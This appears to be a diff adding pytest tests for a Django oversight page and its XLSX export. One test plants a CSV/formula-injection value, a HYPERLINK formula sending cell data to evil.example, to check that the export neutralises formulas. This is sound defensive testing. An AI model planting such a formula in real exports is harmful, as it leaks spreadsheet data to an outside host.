@@ -3,16 +3,22 @@ row per congress under the city, with its deadline, forecast, progress, document
 waits for them, counted only of what they may see (never the personnel subcommittee's work),
 in a number of queries that does not grow with the congresses; everyone else gets a 404."""
 
+import io
+import re
 from datetime import date, datetime, time
+from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import pytest
 import time_machine
+from django.conf import settings
 from django.contrib.contenttypes.models import ContentType
 from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
+from openpyxl import load_workbook
 
+from congress import exports
 from congress.models import Body, Organization, PlanItem, PlanTemplate
 from tests.factories import BodyFactory, CongressFactory, OrganizationFactory, TaskFactory
 from workflows.models import AuditEntry, Document, Task
@@ -347,3 +353,134 @@ def test_a_forecast_is_scheduled_again_only_when_its_plan_changes(api, world, ci
 
     le_chan = rows(api, city.office, city.org)[1]
     assert (le_chan["forecast"], le_chan["slack_days"]) == ("on_time", 12)
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'
+VIETNAMESE_HEADS = [
+    "Tổ chức đảng",
+    "Cấp",
+    "Đại hội",
+    "Trạng thái",
+    "Khai mạc ngày",
+    "Hạn cấp trên cho ý kiến",
+    "Số ngày làm việc đến hạn",
+    "Dự báo",
+    "Trễ (ngày làm việc)",
+    "Việc quyết định dự báo",
+    "Nhiệm vụ",
+    "Hoàn thành",
+    "Tỷ lệ hoàn thành",
+    "Nhiệm vụ quá hạn",
+    "Văn kiện theo trạng thái",
+    "Văn kiện chờ cấp trên cho ý kiến",
+]
+
+
+def test_the_spreadsheet_is_in_vietnamese_and_holds_no_formula(api, world, city, followed):
+    driver = Task.objects.get(title="Hoàn thiện dự thảo Báo cáo chính trị")
+    Task.objects.filter(pk=driver.pk).update(title=HOSTILE)
+    assert city.office.language == "en"  # the sheet is Vietnamese whoever downloads it
+
+    response = api(city.office).get(
+        f"/api/v1/organizations/{city.org.pk}/oversight.xlsx?ordering=-late_by"
+    )
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == exports.XLSX_TYPE
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell for cell in cells if cell.data_type == "f"] == []
+    assert [cell.value for cell in sheet[2]] == VIETNAMESE_HEADS
+    le_chan = [cell.value for cell in sheet[3]]
+    assert le_chan[:4] == [
+        "Đảng bộ quận Lê Chân",
+        "Đảng bộ quận/huyện",
+        "Đại hội đại biểu Đảng bộ quận Lê Chân lần thứ XXV, nhiệm kỳ 2025-2030",
+        "Lập kế hoạch",
+    ]
+    assert le_chan[4:14] == [
+        datetime(2025, 9, 18),
+        datetime(2025, 7, 15),
+        31,
+        "Trễ 8 ngày làm việc",
+        8,
+        HOSTILE,  # as text
+        3,
+        1,
+        pytest.approx(1 / 3),
+        1,
+    ]
+    assert le_chan[14:] == [
+        "Đang soạn thảo: 1; Cấp trên cho ý kiến: 1",
+        "Báo cáo chính trị (từ 26/05/2025, 5 ngày làm việc)",
+    ]
+    assert sheet.max_row == 5  # the title, the headings and the three congresses
+
+
+def page_rows(html: str) -> list[str]:
+    return re.findall(r'<tr data-congress="(\d+)" data-forecast="(\w+)"', html)
+
+
+def test_the_page_shows_a_table_on_a_desk_and_a_card_per_congress_on_a_phone(
+    web, world, city, followed
+):
+    ward = followed[0]
+    response = web(city.office).get("/oversight/")
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert page_rows(html) == [
+        (str(ward.pk), "on_time"),
+        (str(world.congress.pk), "late"),
+        (str(city.sibling.pk), "unknown"),
+    ]
+    assert "Late by 8 working days" in html
+    assert "Hoàn thiện dự thảo Báo cáo chính trị" in html  # the task driving the forecast
+    assert "since 26/05/2025, 5 working days" in html
+    assert "Đề án nhân sự" not in html  # neither the plan nor the personnel task
+    # On a phone every cell is a line of its congress's card, under its label.
+    cells = re.findall(r"<td ([^>]*)>", html)
+    assert cells and all("data-label=" in cell for cell in cells)
+    css = (Path(settings.BASE_DIR) / "workflows/static/web/css/app.css").read_text()
+    phone = css[css.index("/* Oversight") :]
+    assert (
+        "@media (max-width: 719px)" in phone
+        and ".oversight-table thead { display: none; }" in phone
+    )
+    assert f'href="/api/v1/organizations/{city.org.pk}/oversight.xlsx"' in html
+    assert 'href="/oversight/"' in html  # the navigation's link
+
+
+def test_the_page_sorts_and_filters_by_its_address_and_exports_the_same(web, world, city, followed):
+    client = web(city.head)
+    html = client.get(
+        f"/oversight/?organization={city.org.pk}&level=district&ordering=-late_by"
+    ).content.decode()
+
+    assert [pk for pk, _ in page_rows(html)] == [str(world.congress.pk), str(city.sibling.pk)]
+    assert (
+        f'href="/api/v1/organizations/{city.org.pk}/oversight.xlsx?level=district&amp;'
+        'ordering=-late_by"'
+    ) in html
+    # The forecast's heading reverses the order it is sorted by; the others keep the filter.
+    assert "level=district&amp;ordering=late_by" in html
+    assert "level=district&amp;ordering=done_share" in html
+    late = client.get("/oversight/?late=true").content.decode()
+    assert [pk for pk, _ in page_rows(late)] == [str(world.congress.pk)]
+    # A wrong value is left at its default; an organization one may not oversee is a 404.
+    assert len(page_rows(client.get("/oversight/?level=city&ordering=x").content.decode())) == 3
+    assert client.get(f"/oversight/?organization={world.org.pk}").status_code == 404
+    assert client.get("/oversight/?organization=abc").status_code == 404
+
+
+def test_the_navigation_offers_the_page_to_who_may_oversee(web, world, city, followed):
+    for user in (city.office, city.head, city.member, world.staff):
+        page = web(user).get(f"/congresses/{world.congress.pk}/").content.decode()
+        assert 'href="/oversight/"' in page, user.username
+    for user in (world.docs_member, world.personnel_member, city.sibling_head, city.reviewer):
+        page = web(user).get("/tasks/").content.decode()
+        assert 'href="/oversight/"' not in page, user.username
+    # Lê Chân's leaders follow the ward under Lê Chân: the link is theirs too.
+    assert 'href="/oversight/"' in web(world.sc_head).get("/tasks/").content.decode()
+    html = web(world.sc_head).get("/oversight/").content.decode()
+    assert [pk for pk, _ in page_rows(html)] == [str(followed[0].pk)]
